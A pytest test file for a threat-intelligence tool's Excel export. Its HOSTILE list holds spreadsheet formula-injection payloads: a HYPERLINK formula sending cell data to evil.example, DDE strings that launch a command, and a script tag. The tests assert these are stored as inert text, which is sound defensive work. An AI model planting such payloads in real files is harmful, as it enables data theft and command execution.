"""The Excel export: sheets, summary and chart, links, colours, and hostile data kept as text."""

from __future__ import annotations

import re
import zipfile
from pathlib import Path

import openpyxl
import pytest

from iocdesk.indicators.results import Feed, Intel, LookupResult, Risk, RiskFactor, Status, Threat
from iocdesk.indicators.types import IndicatorType
from iocdesk.reports.report import Report
from iocdesk.reports.xlsx import (
    DETAILS_HEADER,
    EXCEL_MAX_CHARS,
    RESULTS_HEADER,
    RISK_COLOURS,
    pulsedive_link,
    safe_text,
    split_titles,
    write_workbook,
)

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "=1+1",
    "#N/A",
    "<script>alert(1)</script>",
]
COL = {name: i for i, name in enumerate(RESULTS_HEADER)}


def _intel(iid: int | None, risk: Risk | None, **kw) -> Intel:
    base = {
        "iid": iid,
        "risk": risk,
        "threats": [Threat(1, "Emotet", "malware"), Threat(2, "Qakbot")],
        "feeds": [Feed(1, "Feodo Tracker", "malware", "abuse.ch")],
        "riskfactors": [RiskFactor(1, "found in threat feeds", Risk.HIGH), RiskFactor(2, "newly registered")],
        "properties": {"dns": {"a": ["93.184.216.34", "93.184.216.35"]}, "http": {"server": ["nginx"]}},
        "country": "NL",
        "asn": "AS1101",
        "org": "SURFnet",
        "added": "2024-03-01 10:00:00",
        "seen": "2025-01-02 03:04:05",
        "web_url": f"https://pulsedive.com/indicator/?iid={iid}",
    }
    base.update(kw)
    return Intel(**base)


def _results() -> list[LookupResult]:
    return [
        LookupResult("evil.example.com", IndicatorType.DOMAIN, Status.FOUND, _intel(11, Risk.CRITICAL), defanged=True),
        LookupResult("198.51.100.7", IndicatorType.IPV4, Status.FOUND, _intel(12, Risk.HIGH)),
        LookupResult("https://cdn.example.net/a.php", IndicatorType.URL, Status.FOUND, _intel(13, Risk.HIGH)),
        LookupResult("low.example.org", IndicatorType.DOMAIN, Status.FOUND, _intel(14, Risk.LOW, threats=[], feeds=[])),
        LookupResult("2001:db8::1", IndicatorType.IPV6, Status.FOUND, _intel(15, Risk.RETIRED, properties={})),
        LookupResult("gone.example", IndicatorType.DOMAIN, Status.NOT_FOUND),
        LookupResult("203.0.113.9", IndicatorType.IPV4, Status.ERROR, error="HTTP 503 after 3 attempts"),
        # A record pointing its web_url elsewhere, and one without an iid: neither gets a foreign link.
        LookupResult("phish.example", IndicatorType.DOMAIN, Status.FOUND,
                     _intel(16, Risk.MEDIUM, web_url="https://evil.example/phish")),
        LookupResult("noiid.example", IndicatorType.DOMAIN, Status.FOUND,
                     _intel(None, Risk.UNKNOWN, web_url="https://evil.example/x")),
    ]  # fmt: skip


def _report(results: list[LookupResult] | None = None) -> Report:
    return Report(results if results is not None else _results(), run_id=42, created="2025-06-01T12:00:00+00:00",
                  sources=["report.pdf", "feed.csv"], scan="passive", api_url="https://pulsedive.com/api/",
                  title="Weekly triage")  # fmt: skip


@pytest.fixture(scope="module")
def book(tmp_path_factory) -> tuple[Path, openpyxl.Workbook]:
    path = write_workbook(_report(), tmp_path_factory.mktemp("x") / "run.xlsx", details=True)
    return path, openpyxl.load_workbook(path)


def _rows(ws) -> list[list]:
    return [list(r) for r in ws.iter_rows(values_only=True)]


def _by_indicator(ws) -> dict[str, tuple]:
    return {row[0].value: row for row in ws.iter_rows(min_row=2)}


def _sheet_xml(path: Path) -> dict[str, str]:
    with zipfile.ZipFile(path) as z:
        return {n: z.read(n).decode("utf-8") for n in z.namelist() if n.startswith("xl/worksheets/sheet")}


# -- structure --------------------------------------------------------------------------


def test_sheets_and_headers(book):
    path, wb = book
    assert path.suffix == ".xlsx" and path.exists()
    assert wb.sheetnames == ["Summary", "Results", "Details"]
    assert tuple(_rows(wb["Results"])[0]) == RESULTS_HEADER
    assert tuple(_rows(wb["Details"])[0]) == DETAILS_HEADER
    assert len(_rows(wb["Results"])) == 1 + len(_results())


def test_no_details_sheet_by_default(tmp_path):
    wb = openpyxl.load_workbook(write_workbook(_report(), tmp_path / "a.xlsx"))
    assert wb.sheetnames == ["Summary", "Results"]


def test_summary_metadata_counts_and_top_lists(book):
    _, wb = book
    rows = _rows(wb["Summary"])
    pairs = {r[0]: r[1] for r in rows if r[0] is not None}
    assert rows[0][0] == "Weekly triage"
    assert pairs["Run id"] == 42 and pairs["IOCs"] == 9
    assert pairs["Created"] == "2025-06-01T12:00:00+00:00"
    assert pairs["Sources"] == "report.pdf; feed.csv"
    assert pairs["Scan policy"] == "passive" and pairs["API URL"] == "https://pulsedive.com/api/"
    assert re.match(r"\d{4}-\d\d-\d\dT", pairs["Generated"])
    assert pairs["high"] == 2 and pairs["critical"] == 1 and pairs["retired"] == 1
    assert pairs["found"] == 7 and pairs["not_found"] == 1 and pairs["error"] == 1
    assert pairs["domain"] == 5 and pairs["ipv4"] == 2
    assert pairs["Emotet"] == 6 and pairs["Feodo Tracker"] == 6  # IOCs per threat / feed


def test_summary_never_leaks_api_credentials(tmp_path):
    report = _report()
    report.api_url = "https://user:secret@pulsedive.com/api/?key=SECRETKEY#x"
    path = write_workbook(report, tmp_path / "a.xlsx")
    values = [v for r in _rows(openpyxl.load_workbook(path)["Summary"]) for v in r if v]
    assert "https://pulsedive.com/api/" in values
    assert not any("SECRET" in str(v) or "secret" in str(v) for v in values)


def test_risk_chart_references_the_count_cells(book):
    path, wb = book
    ws = wb["Summary"]
    # Reading back, openpyxl keeps charts only in write mode; check the chart part itself.
    with zipfile.ZipFile(path) as z:
        charts = [n for n in z.namelist() if n.startswith("xl/charts/chart")]
        assert len(charts) == 1
        xml = z.read(charts[0]).decode()
    assert re.search(r"<(c:)?barChart>", xml)
    refs = re.findall(r"<(?:c:)?f>([^<]+)</(?:c:)?f>", xml)
    cats = next(r for r in refs if "$A$" in r)
    m = re.match(r"'Summary'!\$A\$(\d+):\$A\$(\d+)", cats)
    first, last = int(m[1]), int(m[2])
    labels = [ws.cell(row=i, column=1).value for i in range(first, last + 1)]
    counts = [ws.cell(row=i, column=2).value for i in range(first, last + 1)]
    assert labels == ["critical", "high", "medium", "low", "unknown", "retired"]
    assert counts == [1, 2, 1, 1, 1, 1]


def test_chart_is_a_native_chart_object(tmp_path):
    # In the written workbook object (before saving) the Summary sheet carries the chart.
    from openpyxl.chart import BarChart

    import iocdesk.reports.xlsx as xlsx

    captured = {}
    original = openpyxl.Workbook.save

    def spy(self, filename):
        captured["charts"] = self["Summary"]._charts
        return original(self, filename)

    openpyxl.Workbook.save = spy
    try:
        xlsx.write_workbook(_report(), tmp_path / "a.xlsx")
    finally:
        openpyxl.Workbook.save = original
    assert len(captured["charts"]) == 1 and isinstance(captured["charts"][0], BarChart)


def test_no_chart_when_nothing_has_a_risk(tmp_path):
    path = write_workbook(
        _report([LookupResult("x.example", IndicatorType.DOMAIN, Status.NOT_FOUND)]), tmp_path / "a.xlsx"
    )
    with zipfile.ZipFile(path) as z:
        assert not [n for n in z.namelist() if n.startswith("xl/charts/")]


def test_results_row_content(book):
    _, wb = book
    rows = _by_indicator(wb["Results"])
    row = [c.value for c in rows["evil.example.com"]]
    assert row[COL["Type"]] == "domain" and row[COL["Status"]] == "found" and row[COL["Risk"]] == "critical"
    assert row[COL["Risk factors"]] == "found in threat feeds; newly registered"
    assert row[COL["Threats"]] == "Emotet; Qakbot" and row[COL["Feeds"]] == "Feodo Tracker"
    assert (row[COL["Country"]], row[COL["ASN"]], row[COL["Org"]]) == ("NL", "AS1101", "SURFnet")
    assert (row[COL["First seen"]], row[COL["Last seen"]]) == ("2024-03-01 10:00:00", "2025-01-02 03:04:05")
    assert row[COL["Defanged in input"]] == "yes"
    assert rows["198.51.100.7"][COL["Defanged in input"]].value == "no"
    assert rows["203.0.113.9"][COL["Error"]].value == "HTTP 503 after 3 attempts"
    assert rows["gone.example"][COL["Risk"]].value is None


def test_frozen_header_autofilter_and_widths(book):
    _, wb = book
    ws = wb["Results"]
    assert ws.freeze_panes == "A2"
    assert ws.auto_filter.ref == f"A1:S{1 + len(_results())}"
    assert wb["Details"].freeze_panes == "A2"
    assert wb["Details"].auto_filter.ref.startswith("A1:D")
    widths = {k: d.width for k, d in ws.column_dimensions.items()}
    assert 10 <= widths["A"] <= 50 and all(6 <= w <= 60 for w in widths.values())
    assert ws["A1"].font.b


def test_hyperlinks_only_to_pulsedive_iids(book):
    _, wb = book
    ws = wb["Results"]
    links = {c.value: c.hyperlink.target for row in ws.iter_rows(min_row=2) for c in row if c.hyperlink}
    assert links == {str(i): f"https://pulsedive.com/indicator/?iid={i}" for i in (11, 12, 13, 14, 15, 16)}
    for target in links.values():
        assert re.fullmatch(r"https://pulsedive\.com/indicator/\?iid=\d+", target)
    rows = _by_indicator(ws)
    assert rows["noiid.example"][COL["Pulsedive"]].value is None
    for wsx in wb:
        for row in wsx.iter_rows():
            for c in row:
                assert not c.hyperlink or c.hyperlink.target.startswith("https://pulsedive.com/indicator/?iid=")


def test_pulsedive_link_ignores_non_integer_iids():
    bad = [None, True, 0, -3, "12", 1.5]
    for iid in bad:
        r = LookupResult("a.example", IndicatorType.DOMAIN, Status.FOUND, Intel(iid=iid, web_url="https://evil/"))
        assert pulsedive_link(r) is None
    assert pulsedive_link(LookupResult("a.example", IndicatorType.DOMAIN)) is None


def test_risk_cells_are_coloured(book):
    _, wb = book
    seen = set()
    for row in wb["Results"].iter_rows(min_row=2):
        cell = row[COL["Risk"]]
        if cell.value:
            risk = Risk(cell.value)
            assert cell.fill.fill_type == "solid"
            assert cell.fill.fgColor.rgb == RISK_COLOURS[risk]
            seen.add(risk)
        else:
            assert cell.fill.fill_type is None
    assert seen == {Risk.CRITICAL, Risk.HIGH, Risk.MEDIUM, Risk.LOW, Risk.RETIRED, Risk.UNKNOWN}
    assert len(set(RISK_COLOURS.values())) == len(Risk)


def test_defang_option(tmp_path):
    wb = openpyxl.load_workbook(write_workbook(_report(), tmp_path / "d.xlsx", defang=True, details=True))
    indicators = [r[0] for r in _rows(wb["Results"])[1:]]
    assert "evil[.]example[.]com" in indicators and "198[.]51[.]100[.]7" in indicators
    assert "hxxps[://]cdn[.]example[.]net/a.php" in indicators and "2001[:]db8[:][:]1" in indicators
    assert not any(i == "evil.example.com" for i in indicators)
    assert {r[0] for r in _rows(wb["Details"])[1:]} >= {"evil[.]example[.]com"}
    assert {r[0]: r[1] for r in _rows(wb["Summary"]) if r[0]}["Indicators defanged"] == "yes"


def test_details_sheet_flattens_properties(book):
    _, wb = book
    rows = _rows(wb["Details"])[1:]
    assert ["evil.example.com", "dns", "a", "93.184.216.34"] in rows
    assert ["evil.example.com", "dns", "a", "93.184.216.35"] in rows
    assert ["evil.example.com", "http", "server", "nginx"] in rows
    assert not any(r[0] == "2001:db8::1" for r in rows)  # no properties
    assert len(rows) == 3 * 7 - 3  # 3 rows for each found result with properties (6 of them)


# -- hostile data -----------------------------------------------------------------------


def _hostile_results() -> list[LookupResult]:
    out = []
    for i, text in enumerate(HOSTILE):
        intel = _intel(100 + i, Risk.HIGH, threats=[Threat(1, text)], feeds=[Feed(1, text)], org=text,
                       riskfactors=[RiskFactor(1, text)], properties={text: {text: [text]}},
                       web_url=text)  # fmt: skip
        out.append(LookupResult(text, IndicatorType.DOMAIN, Status.FOUND, intel, error=text))
    return out


def test_hostile_values_arrive_as_literal_text(tmp_path):
    path = write_workbook(_report(_hostile_results()), tmp_path / "h.xlsx", details=True)
    wb = openpyxl.load_workbook(path)
    results = _by_indicator(wb["Results"])
    assert set(results) == set(HOSTILE)
    for text in HOSTILE:
        row = results[text]
        for name in ("Indicator", "Risk factors", "Threats", "Feeds", "Org", "Error"):
            cell = row[COL[name]]
            assert cell.value == text and cell.data_type == "s", (name, text, cell.value, cell.data_type)
    details = list(wb["Details"].iter_rows(min_row=2))
    assert len(details) == len(HOSTILE)
    for row in details:
        assert [c.value for c in row][1:] == [row[0].value] * 3 and all(c.data_type == "s" for c in row)
    summary = [c for row in wb["Summary"].iter_rows() for c in row if c.value in HOSTILE]
    assert {c.value for c in summary} == set(HOSTILE)  # top threats and feeds
    assert all(c.data_type == "s" for c in summary)
    # Nothing in any worksheet is a formula; the only <f> elements are the chart's references.
    for name, xml in _sheet_xml(path).items():
        assert "<f>" not in xml and "<f " not in xml, name
        assert "<script>" not in xml  # escaped as &lt;script&gt;
    with zipfile.ZipFile(path) as z:
        charts = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/charts/chart")]
    assert charts and all("'Summary'!" in x and re.search(r"<(c:)?f>", x) for x in charts)
    links = {c.hyperlink.target for r in results.values() for c in r if c.hyperlink}
    assert links == {f"https://pulsedive.com/indicator/?iid={100 + i}" for i in range(len(HOSTILE))}


def test_control_and_invisible_characters_become_visible_escapes(tmp_path):
    text = "bad\x00\x07\x1b[31m\u202eexe.txt\u200b\ud800"
    intel = _intel(1, Risk.LOW, org=text, properties={"g": {"p": [text]}})
    r = LookupResult("ctl.example\x0b", IndicatorType.DOMAIN, Status.FOUND, intel, error="a\nb\tc")
    wb = openpyxl.load_workbook(write_workbook(_report([r]), tmp_path / "c.xlsx", details=True))
    row = _rows(wb["Results"])[1]
    assert row[0] == "ctl.example\\x0b"
    assert row[COL["Org"]] == "bad\\x00\\x07\\x1b[31m\\u202eexe.txt\\u200b\\ud800"
    assert row[COL["Error"]] == "a\\nb\\tc"
    assert _rows(wb["Details"])[1][3] == row[COL["Org"]]


def test_huge_values_are_cut_at_the_cell_limit_with_a_note(tmp_path):
    big = "A" * 100_000
    r = LookupResult("big.example", IndicatorType.DOMAIN, Status.ERROR, error=big)
    wb = openpyxl.load_workbook(write_workbook(_report([r]), tmp_path / "b.xlsx"))
    value = _rows(wb["Results"])[1][COL["Error"]]
    assert len(value) <= EXCEL_MAX_CHARS
    assert value.startswith("A" * 30_000)
    kept = value.index("…")
    assert re.search(rf"\({100_000 - kept:,}|\({100_000 - kept} more characters", value)
    assert safe_text("x" * EXCEL_MAX_CHARS) == "x" * EXCEL_MAX_CHARS  # exactly at the limit: untouched
    assert len(safe_text("=" * 40_000)) <= EXCEL_MAX_CHARS


# -- row limit --------------------------------------------------------------------------


def test_split_titles():
    assert split_titles("Results", 0, 5) == [("Results", 0)]
    assert split_titles("Results", 4, 5) == [("Results", 4)]
    assert split_titles("Results", 5, 5) == [("Results", 4), ("Results (2)", 1)]
    assert split_titles("Results", 9, 5) == [("Results", 4), ("Results (2)", 4), ("Results (3)", 1)]
    assert split_titles("Results", 1_048_575) == [("Results", 1_048_575)]
    assert split_titles("Results", 1_048_576) == [("Results", 1_048_575), ("Results (2)", 1)]


def test_results_beyond_the_row_limit_continue_on_new_sheets(tmp_path):
    results = [
        LookupResult(f"h{i}.example", IndicatorType.DOMAIN, Status.FOUND, _intel(1000 + i, Risk.HIGH))
        for i in range(11)
    ]
    path = write_workbook(_report(results), tmp_path / "s.xlsx", details=True, max_rows=5)
    wb = openpyxl.load_workbook(path)
    expected = [t for t, _ in split_titles("Results", 11, 5)]
    assert expected == ["Results", "Results (2)", "Results (3)"]
    details = [t for t, _ in split_titles("Details", 33, 5)]
    assert wb.sheetnames == ["Summary", *expected, *details]
    seen = []
    for title, n in split_titles("Results", 11, 5):
        ws = wb[title]
        rows = _rows(ws)
        assert tuple(rows[0]) == RESULTS_HEADER and len(rows) == 1 + n
        assert ws.freeze_panes == "A2" and ws.auto_filter.ref == f"A1:S{n + 1}"
        assert all(r[COL["Pulsedive"]] for r in rows[1:])
        seen += [r[0] for r in rows[1:]]
    assert seen == [r.indicator for r in results]
    assert sum(len(_rows(wb[t])) - 1 for t in details) == 33
    with pytest.raises(ValueError):
        write_workbook(_report(results), tmp_path / "x.xlsx", max_rows=1)


def test_empty_report(tmp_path):
    wb = openpyxl.load_workbook(write_workbook(_report([]), tmp_path / "e.xlsx", details=True))
    assert wb.sheetnames == ["Summary", "Results", "Details"]
    assert _rows(wb["Results"]) == [list(RESULTS_HEADER)]
    assert wb["Results"].auto_filter.ref == "A1:S1"


def test_a_few_thousand_rows_quickly(tmp_path):
    import time

    results = [
        LookupResult(f"h{i}.example", IndicatorType.DOMAIN, Status.FOUND, _intel(i + 1, list(Risk)[i % 7]))
        for i in range(3000)
    ]
    start = time.perf_counter()
    path = write_workbook(_report(results), tmp_path / "k.xlsx")
    assert time.perf_counter() - start < 5
    ws = openpyxl.load_workbook(path, read_only=True)["Results"]
    assert sum(1 for _ in ws.iter_rows(min_row=2)) == 3000


def test_links_past_the_per_sheet_cap_are_plain_text(tmp_path, monkeypatch):
    import iocdesk.reports.xlsx as xlsx

    monkeypatch.setattr(xlsx, "EXCEL_MAX_LINKS", 2)
    results = [
        LookupResult(f"h{i}.example", IndicatorType.DOMAIN, Status.FOUND, _intel(i + 1, Risk.LOW)) for i in range(5)
    ]
    wb = openpyxl.load_workbook(xlsx.write_workbook(_report(results), tmp_path / "l.xlsx", max_rows=5))
    first = [r[COL["Pulsedive"]] for r in wb["Results"].iter_rows(min_row=2)]
    assert [bool(c.hyperlink) for c in first] == [True, True, False, False]
    assert first[2].value == "https://pulsedive.com/indicator/?iid=3" and first[2].data_type == "s"
    assert wb["Results (2)"]["S2"].hyperlink.target == "https://pulsedive.com/indicator/?iid=5"  # cap is per sheet


def test_export_bench_runs(tmp_path):
    import json
    import subprocess
    import sys

    root = Path(__file__).resolve().parents[2]
    command = [sys.executable, "-m", "benchmarks.export_bench", "--sizes", "300", "--formats", "xlsx,csv,json",
               "--no-tracemalloc", "--json"]  # fmt: skip
    proc = subprocess.run(command, cwd=root, capture_output=True, text=True, timeout=120, check=False)
    assert proc.returncode == 0, proc.stderr
    data = json.loads(proc.stdout)
    assert [r["format"] for r in data["results"]] == ["xlsx", "csv", "json"]
    assert all(r["n"] == 300 and r["seconds"] > 0 and r["file_mb"] > 0 for r in data["results"])
